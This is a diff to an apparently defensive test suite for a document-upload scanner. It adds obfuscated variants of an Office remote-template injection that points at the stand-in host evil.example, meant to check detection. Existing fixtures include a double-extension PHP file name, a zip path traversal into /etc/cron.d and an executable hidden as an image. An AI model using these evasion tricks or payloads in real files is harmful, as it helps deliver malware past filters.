@@ -154,6 +154,17 @@ ELSEWHERE = (
     'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
 )
 
+TEMPLATE = "word/_rels/settings.xml.rels"
+DISGUISED = {
+    "other quotes": ELSEWHERE.replace('"', "'"),
+    "a letter as a number": ELSEWHERE.replace("External", "&#69;xternal"),
+    "spaces": ELSEWHERE.replace("TargetMode=", "TargetMode = "),
+    "a prefix": ELSEWHERE.replace("<Rel", "<p:Rel").replace("</Rel", "</p:Rel"),
+    "a long comment before it": ELSEWHERE.replace("><", f"><!--{'x' * 70_000}--><", 1),
+    "another encoding": f'<?xml version="1.0" encoding="UTF-16"?>{ELSEWHERE}'.encode("utf-16"),
+}
+"""Ways to write the same that an office program reads all the same."""
+
 HOSTILE = {
     "0 bytes": ("empty.pdf", b"", "empty"),
     "HTML in a PDF’s clothing": ("agreement.pdf", HTML, "html"),
@@ -200,9 +211,15 @@ HOSTILE = {
     "document with a program in it": ("hidden.docx", office(**{"word/media/image1.png": b"MZ\x90"}), "program"),
     "document with a template elsewhere": (
         "template.docx",
-        office(**{"word/_rels/settings.xml.rels": ELSEWHERE}),
+        office(**{TEMPLATE: ELSEWHERE}),
         "loads_elsewhere",
     ),
+    **{
+        f"part from elsewhere, in {how}": ("template.docx", office(**{TEMPLATE: body}), "loads_elsewhere")
+        for how, body in DISGUISED.items()
+    },
+    "relationships that are no XML": ("template.docx", office(**{TEMPLATE: "<Relationships>"}), "damaged"),
+    "program’s ending with a space after it": ("agreement.php .pdf", pdf(), "name_program"),
     "part that leads out of its folder": ("slip.docx", office(**{"../../etc/cron.d/x": "x"}), "damaged"),
     "workbook with a password": ("secret.xlsx", office_with_password(), "encrypted"),
     "OpenDocument with a password": (
